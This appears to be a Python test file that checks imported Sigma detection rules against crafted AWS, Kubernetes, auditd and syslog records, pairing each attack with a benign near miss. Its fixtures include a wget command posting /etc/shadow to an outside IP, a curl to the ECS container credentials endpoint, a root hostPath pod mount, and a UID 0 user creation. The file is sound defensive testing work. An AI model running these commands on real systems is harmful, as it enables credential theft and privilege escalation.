"""Imported Sigma rules run on records shaped like the real logs (AWS, Kubernetes and Linux
documentation), through the real parsers (udfs/parse) and the same Flink SQL, view and dedup
as the detect job (rules_runner.backfill on the local mini-cluster): each fires on its attack
and stays silent on the near miss beside it. This checks the pipelines' field mappings where a
plan cannot: JSON paths, lists, record types, keywords over the raw line."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from auditflow import rules_runner
from udfs.detect import rules as R
from udfs.parse import parse
from udfs.record import RawRecord

SIGMA = Path(rules_runner.RULES_DIR) / "sigma"
T0 = 1736664000  # 2025-01-12T06:40:00Z


def ct(name: str, source: str, extra: dict | None = None, **identity) -> dict:
    doc = {"eventVersion": "1.08", "eventTime": "2025-01-12T06:40:00Z", "eventSource": source,
           "eventName": name, "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.7",
           "userAgent": "aws-cli/2.15.0", "requestID": "r-1", "eventID": f"e-{name}",
           "eventType": "AwsApiCall", "recipientAccountId": "111122223333",
           "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE",
                            "arn": "arn:aws:iam::111122223333:user/mallory", "accountId": "111122223333",
                            "userName": "mallory", **identity}}
    return doc | (extra or {})


def pod(name: str, volumes: list[dict]) -> dict:
    return {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
            "auditID": f"a-{name}", "stage": "ResponseComplete", "verb": "create",
            "requestURI": "/api/v1/namespaces/default/pods", "user": {"username": "dave"},
            "sourceIPs": ["10.0.0.5"], "userAgent": "kubectl/v1.31.0",
            "objectRef": {"resource": "pods", "namespace": "default", "name": name, "apiVersion": "v1"},
            "responseStatus": {"code": 201},
            "requestObject": {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name},
                              "spec": {"containers": [{"name": "c", "image": "busybox"}],
                                       "volumes": volumes}},
            "requestReceivedTimestamp": "2025-01-12T06:40:00.000000Z",
            "stageTimestamp": "2025-01-12T06:40:00.100000Z"}


def execve(serial: int, *args: str) -> str:
    argv = " ".join(f'a{i}="{a}"' for i, a in enumerate(args))
    return (f"type=SYSCALL msg=audit({T0}.123:{serial}): arch=c000003e syscall=59 success=yes exit=0"
            f' ppid=900 pid={serial} auid=1000 uid=1000 euid=1000 tty=pts0 ses=3 comm="{args[0]}"'
            f' exe="/usr/bin/{args[0]}" key="exec"\n'
            f"type=EXECVE msg=audit({T0}.123:{serial}): argc={len(args)} {argv}\n"
            f"type=PROCTITLE msg=audit({T0}.123:{serial}): proctitle=776765740a")


# (tenant, source, record, the rule expected to fire on it or None)
CASES = [
    ("ct-stop", "cloudtrail", ct("StopLogging", "cloudtrail.amazonaws.com"), "SIGMA-4DB60CC036FB"),
    ("ct-start", "cloudtrail", ct("StartLogging", "cloudtrail.amazonaws.com"), None),
    ("ct-nomfa", "cloudtrail", ct("ConsoleLogin", "signin.amazonaws.com", {
        "additionalEventData": {"LoginTo": "https://console.aws.amazon.com", "MobileVersion": "No",
                                "MFAUsed": "No"},
        "responseElements": {"ConsoleLogin": "Success"}}), "SIGMA-77CAF51634E5"),
    ("ct-mfa", "cloudtrail", ct("ConsoleLogin", "signin.amazonaws.com", {
        "additionalEventData": {"MFAUsed": "Yes"}, "responseElements": {"ConsoleLogin": "Success"}}), None),
    ("ct-ecs", "cloudtrail", ct("RegisterTaskDefinition", "ecs.amazonaws.com", {"requestParameters": {
        "family": "x", "containerDefinitions": [{"name": "a", "image": "alpine", "command": [
            "sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}]}}),
     "SIGMA-B94BF91EC2BF"),
    ("ct-ecs-ok", "cloudtrail", ct("RegisterTaskDefinition", "ecs.amazonaws.com", {"requestParameters": {
        "family": "x", "containerDefinitions": [{"name": "a", "image": "alpine",
                                                 "command": ["sleep", "1"]}]}}), None),
    ("k8s-hostpath", "k8s-audit", pod("p1", [{"name": "root", "hostPath": {"path": "/", "type": ""}}]),
     "SIGMA-402B955C8FE0"),
    ("k8s-emptydir", "k8s-audit", pod("p2", [{"name": "tmp", "emptyDir": {}}]), None),
    ("auditd-wget", "auditd", execve(101, "wget", "--post-file=/etc/shadow", "http://198.51.100.9/"),
     "SIGMA-CB39D16BB3B6"),
    ("auditd-wget-get", "auditd", execve(102, "wget", "http://198.51.100.9/a.tgz"), None),
    ("sshd-error", "syslog", "<38>Jan 12 06:40:00 bastion sshd[4242]: error: Corrupted MAC on input.",
     "SIGMA-E76B413A83D0"),
    ("sshd-accepted", "syslog",
     "<38>Jan 12 06:40:00 bastion sshd[4242]: Accepted publickey for alice from 203.0.113.7 port 50022 ssh2",
     None),
    ("useradd-root", "syslog", "<86>Jan 12 06:40:00 web1 useradd[1337]: new user: name=john, UID=0, GID=0,"
     " home=/home/john, shell=/bin/bash", "SIGMA-0AC15EC3D24F"),
    ("useradd-plain", "syslog", "<86>Jan 12 06:40:00 web1 useradd[1337]: new user: name=bob, UID=1001,"
     " GID=1001, home=/home/bob, shell=/bin/bash", None),
]


def event(tenant: str, source: str, record, n: int) -> dict:
    value = record if isinstance(record, str) else json.dumps(record)
    raw = RawRecord(source=source, value=value.encode(), tenant_id=tenant, topic=f"audit.raw.{source}",
                    partition=0, offset=n, timestamp_ms=T0 * 1000 + 60_000)
    ev = parse(raw)
    # as the normalize job's chain stage leaves it (evidence names the chain position)
    ev["chain"] = {"chain_id": tenant, "sequence": 1,
                   "event_hash": hashlib.sha256(value.encode()).hexdigest()}
    return ev


def test_imported_rules_fire_on_the_attack_and_not_on_the_near_miss():
    wanted = sorted({rid for *_, rid in CASES if rid})
    rules = [r for r in R.discover(rules_runner.RULES_DIR) if r.id in wanted]
    assert [r.id for r in rules] == wanted
    events = [event(t, s, rec, n) for n, (t, s, rec, _) in enumerate(CASES)]
    alerts, errors = rules_runner.backfill(rules, events, say=lambda _m: None)
    assert errors == []
    fired = sorted((a["rule_id"], a["tenant_id"], a["event_count"]) for rid in wanted for a in alerts[rid])
    assert fired == sorted((rid, t, 1) for t, _s, _r, rid in CASES if rid)
